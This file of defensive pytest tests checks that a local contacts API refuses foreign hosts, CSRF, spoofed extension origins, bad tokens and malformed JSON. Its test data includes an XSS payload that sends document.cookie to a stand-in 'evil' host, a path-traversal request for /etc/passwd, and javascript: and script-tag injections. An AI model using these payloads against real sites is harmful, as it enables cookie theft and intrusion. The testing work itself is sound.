"""The first request hook refuses hostile callers before any handler runs (docs/security.md T1–T19)."""

from __future__ import annotations

import json

import pytest

from server.security import CHROME_ORIGIN
from server.storage import files_are_strict_json

PORT = 5317
CONTACTS = "/api/v1/contacts"


@pytest.fixture
def spy(app):
    """Wrap every view so a test can prove the handler never ran."""
    calls = []
    for name, view in list(app.view_functions.items()):
        def wrapped(*a, __view=view, __name=name, **k):
            calls.append(__name)
            return __view(*a, **k)

        app.view_functions[name] = wrapped
    return calls


def count(app):
    return app.extensions["followup.store"].count("contacts")


def refused(resp, status):
    assert resp.status_code == status, resp.get_data(as_text=True)
    assert resp.mimetype == "application/json"
    body = resp.get_json()
    assert set(body) == {"error"} and body["error"]["code"] and body["error"]["message"]
    return body


# T1, T2
@pytest.mark.parametrize(
    "host",
    ["evil.example:5317", "127.0.0.1.nip.io:5317", "localhost.:5317", "0.0.0.0:5317", "127.0.0.2:5317",
     "[::ffff:127.0.0.1]:5317", ":5317", "foo.localhost:5317", "x.local:5317", "x.internal:5317",
     "127.0.0.1", "127.0.0.1:5318", "localhost"],
)
def test_foreign_host_refused_without_running_handler(client, H, app, spy, host):
    client.post(CONTACTS, json={"name": "Ana"}, headers=H)
    spy.clear()
    body = refused(client.get(CONTACTS, headers={**H, "Host": host}), 400)
    assert "Ana" not in json.dumps(body)
    refused(client.post(CONTACTS, json={"name": "Eve"}, headers={**H, "Host": host}), 400)
    assert spy == [] and count(app) == 1


@pytest.mark.parametrize("host", ["127.0.0.1:5317", "localhost:5317", "[::1]:5317"])
def test_loopback_hosts_allowed(client, H, host):
    assert client.get(CONTACTS, headers={**H, "Host": host}).status_code == 200


# T4, T5
@pytest.mark.parametrize("ctype", ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x"])
def test_simple_request_csrf_refused(client, app, spy, ctype):
    resp = client.post(
        CONTACTS, data='{"name":"x"}', headers={"Host": f"127.0.0.1:{PORT}", "Origin": "https://evil.example", "Content-Type": ctype}
    )
    refused(resp, 403)
    assert spy == [] and count(app) == 0
    assert "Access-Control-Allow-Origin" not in resp.headers


def test_csrf_without_origin_refused(client, app, spy):
    resp = client.post(
        CONTACTS, data='{"name":"x"}', content_type="text/plain",
        headers={"Host": f"127.0.0.1:{PORT}", "Sec-Fetch-Site": "cross-site", "Sec-Fetch-Mode": "no-cors"},
    )
    assert resp.status_code in (401, 403)
    assert spy == [] and count(app) == 0


# T6
def test_web_origin_preflight_gets_no_cors(client, spy):
    resp = client.options(CONTACTS, headers={
        "Host": f"127.0.0.1:{PORT}", "Origin": "https://evil.example", "Access-Control-Request-Method": "POST",
        "Access-Control-Request-Headers": "authorization,content-type", "Access-Control-Request-Private-Network": "true",
    })
    assert resp.status_code == 403
    assert "Access-Control-Allow-Origin" not in resp.headers
    assert "Access-Control-Allow-Private-Network" not in resp.headers
    assert spy == []


# T7
def test_our_extension_preflight_allowed_exactly(client):
    resp = client.options(CONTACTS, headers={
        "Host": f"127.0.0.1:{PORT}", "Origin": CHROME_ORIGIN, "Access-Control-Request-Method": "POST",
        "Access-Control-Request-Headers": "authorization,content-type",
    })
    assert resp.status_code == 204
    assert resp.headers["Access-Control-Allow-Origin"] == CHROME_ORIGIN
    allow = resp.headers["Access-Control-Allow-Headers"].lower()
    assert "authorization" in allow and "content-type" in allow
    assert "Origin" in resp.headers.get("Vary", "")


def test_our_extension_origin_with_token_reads(client, H):
    resp = client.get(CONTACTS, headers={**H, "Origin": CHROME_ORIGIN})
    assert resp.status_code == 200 and resp.headers["Access-Control-Allow-Origin"] == CHROME_ORIGIN


# T8, T9
@pytest.mark.parametrize(
    "origin",
    [CHROME_ORIGIN + ".evil.com", CHROME_ORIGIN + "x", CHROME_ORIGIN.upper(), f"http://127.0.0.1:{PORT}.evil.com",
     "https://localhost.evil.com", "moz-extension://not-a-uuid", "null", "file://", "https://evil.example",
     "chrome-extension://abcdefghijklmnopabcdefghijklmnop", "moz-extension://12345678-1234-1234-1234-123456789abc"],
)
def test_origin_bypasses_refused_even_with_token(client, H, app, spy, origin):
    for resp in (client.get(CONTACTS, headers={**H, "Origin": origin}),
                 client.post(CONTACTS, json={"name": "x"}, headers={**H, "Origin": origin})):
        refused(resp, 403)
        assert "Access-Control-Allow-Origin" not in resp.headers
    assert spy == [] and count(app) == 0


# T10
def test_authentication_variants(client, token, app, spy):
    base = {"Host": f"127.0.0.1:{PORT}"}
    bad = [
        {}, {"Authorization": "Bearer wrong-token-wrong-token"}, {"Authorization": f"Token {token}"},
        {"Authorization": f"Bearer {token} "}, {"Authorization": f"Bearer {token[:-1]}"},
        {"Authorization": f"Bearer  {token}"}, {"Authorization": token}, {"Cookie": f"token={token}"},
    ]
    for extra in bad:
        refused(client.post(CONTACTS, json={"name": "x"}, headers={**base, **extra}), 401)
    refused(client.get(f"{CONTACTS}?token={token}", headers=base), 401)
    assert spy == [] and count(app) == 0
    # the scheme name is case-insensitive (RFC 9110); the token is not
    assert client.get(CONTACTS, headers={**base, "Authorization": f"bearer {token}"}).status_code == 200
    assert client.get(CONTACTS, headers={**base, "Authorization": f"Bearer {token.swapcase()}"}).status_code == 401


def test_token_compared_in_constant_time(client, H, monkeypatch):
    import hmac

    seen = []
    real = hmac.compare_digest
    monkeypatch.setattr(hmac, "compare_digest", lambda a, b: seen.append(1) or real(a, b))
    client.get(CONTACTS, headers=H)
    assert seen


def test_health_needs_no_token_and_holds_no_data(client, H):
    client.post(CONTACTS, json={"name": "Ana Secret"}, headers=H)
    resp = client.get("/api/v1/health", headers={"Host": f"127.0.0.1:{PORT}"})
    assert resp.status_code == 200
    assert resp.get_json()["app"] == "followup" and "Ana" not in resp.get_data(as_text=True)


def test_rotated_token_applies_at_once(client, H, app):
    from server.paths import ensure_token
    from pathlib import Path

    new = ensure_token(Path(app.config["DATA_DIR"]), rotate=True)
    assert client.get(CONTACTS, headers=H).status_code == 401
    assert client.get(CONTACTS, headers={**H, "Authorization": f"Bearer {new}"}).status_code == 200


# T14
def test_oversized_bodies_refused(client, H, app, spy):
    refused(client.post(CONTACTS, data=b'{"name":"' + b"x" * (65 * 1024) + b'"}', content_type="application/json", headers=H), 413)
    assert spy == [] and count(app) == 0


# T15, T16
@pytest.mark.parametrize(
    "raw",
    [b"{bad", b'{"a":1,}', b"", b'\xef\xbb\xbf{"name":"x"}', b"\xff\xfe", b"[" * 100_000 + b"]" * 100_000,
     b'{"name": {"a": ' * 40 + b"1" + b"}" * 40],
    ids=["bad", "trailing-comma", "empty", "bom", "invalid-utf8", "deep-100k", "deep-40"],
)
def test_malformed_json_400(client, H, app, raw):
    resp = client.post(CONTACTS, data=raw, content_type="application/json", headers=H)
    assert resp.status_code in (400, 413)
    refused(resp, resp.status_code)
    assert count(app) == 0


# T17
def test_content_type_required(client, H, app):
    refused(client.post(CONTACTS, data='{"name":"x"}', content_type="text/plain", headers=H), 415)
    refused(client.post(CONTACTS, data='{"name":"x"}', headers=H), 415)
    assert count(app) == 0
    assert client.post(CONTACTS, data='{"name":"x"}', content_type="application/json; charset=utf-8", headers=H).status_code == 201


# T18
@pytest.mark.parametrize(
    "raw, field",
    [("[]", None), ('"str"', None), ("null", None), ('{"name": {"a": 1}}', "name"), ('{"name": "' + "x" * 300 + '"}', "name"),
     ('{"name": "x", "admin": true}', "admin"), ('{"name": "x", "tags": [' + "9" * 5000 + "]}", None),
     ('{"name": NaN}', None), ('{"name": Infinity}', None), ('{"name": -Infinity}', None),
     ('{"name": "a", "name": "b"}', None), ('{"name": "\\ud800"}', "name"), ('{"name": "a\\u0000b"}', "name"),
     ('{"name": 5}', "name"), ('{"name": ""}', "name"), ('{"name": "x", "tags": "t"}', "tags"),
     ('{"name": "x", "email": "not-an-email"}', "email"), ('{"name": "x", "profile_url": "javascript:alert(1)"}', "profile_url")],
)
def test_schema_and_type_confusion(client, H, app, data_dir, raw, field):
    resp = client.post(CONTACTS, data=raw, content_type="application/json", headers=H)
    assert resp.status_code in (400, 422), resp.get_data(as_text=True)
    body = refused(resp, resp.status_code)
    if field:
        assert body["error"]["field"] == field
    assert count(app) == 0
    assert files_are_strict_json(data_dir)


# T19
@pytest.mark.parametrize("path", ["/api/v1/contacts/abc", "/api/v1/contacts/-1", "/api/v1/contacts/" + "9" * 40,
                                  "/api/v1/contacts/../../etc/passwd", "/api/v1/contacts/%2e%2e%2f", "/api/v1/nope"])
def test_unknown_ids_and_paths_404_json(client, H, path):
    resp = client.get(path, headers=H)
    assert resp.status_code == 404
    refused(resp, 404)


@pytest.mark.parametrize("method", ["PUT", "TRACE"])
def test_unsupported_methods_405_json(client, H, method):
    resp = client.open(CONTACTS, method=method, headers=H)
    refused(resp, 405)


# T20/T21 in part: answers are JSON with nosniff, never HTML
def test_script_payloads_stored_as_json_text(client, H):
    payload = '<img src=x onerror="fetch(`//evil/`+document.cookie)">'
    resp = client.post(CONTACTS, json={"name": payload, "notes": "<script>alert(1)</script>"}, headers=H)
    assert resp.status_code == 201
    got = client.get(f"{CONTACTS}/{resp.get_json()['id']}", headers=H)
    assert got.mimetype == "application/json" and got.headers["X-Content-Type-Options"] == "nosniff"
    assert got.get_json()["name"] == payload


# T27
def test_unexpected_error_is_json_without_traceback(app, client, H):
    app.view_functions["contacts.list_contacts"] = lambda: 1 / 0
    resp = client.get(CONTACTS, headers=H)
    refused(resp, 500)
    assert "Traceback" not in resp.get_data(as_text=True) and "ZeroDivision" not in resp.get_data(as_text=True)
    assert app.debug is False
    assert client.get("/console", headers=H).status_code == 404


# T12 (server side): the proof is given without the token, so a squatter never learns it
def test_hello_proves_the_token_without_being_sent_it(client, token):
    import hashlib
    import hmac as _hmac

    nonce = "n" * 32
    resp = client.post("/api/v1/hello", json={"nonce": nonce}, headers={"Host": f"127.0.0.1:{PORT}"})
    assert resp.status_code == 200
    assert resp.get_json()["proof"] == _hmac.new(token.encode(), nonce.encode(), hashlib.sha256).hexdigest()
    assert client.post("/api/v1/hello", json={"nonce": nonce}, headers={"Host": f"127.0.0.1:{PORT}", "Authorization": "Bearer wrong-token-wrong-token"}).status_code == 401


def test_firefox_origin_pairs_only_with_the_token(client, token, H):
    ff = "moz-extension://12345678-1234-1234-1234-123456789abc"
    base = {"Host": f"127.0.0.1:{PORT}", "Origin": ff}
    client.post("/api/v1/hello", json={"nonce": "n" * 32}, headers=base)  # without the token: not paired
    assert client.get(CONTACTS, headers={**H, "Origin": ff}).status_code == 403
    assert client.post("/api/v1/hello", json={"nonce": "n" * 32}, headers={**base, "Authorization": f"Bearer {token}"}).status_code == 200
    resp = client.get(CONTACTS, headers={**H, "Origin": ff})
    assert resp.status_code == 200 and resp.headers["Access-Control-Allow-Origin"] == ff
    assert client.get(CONTACTS, headers={**H, "Origin": ff.replace("1234-1234-1234", "1234-1234-9999")}).status_code == 403
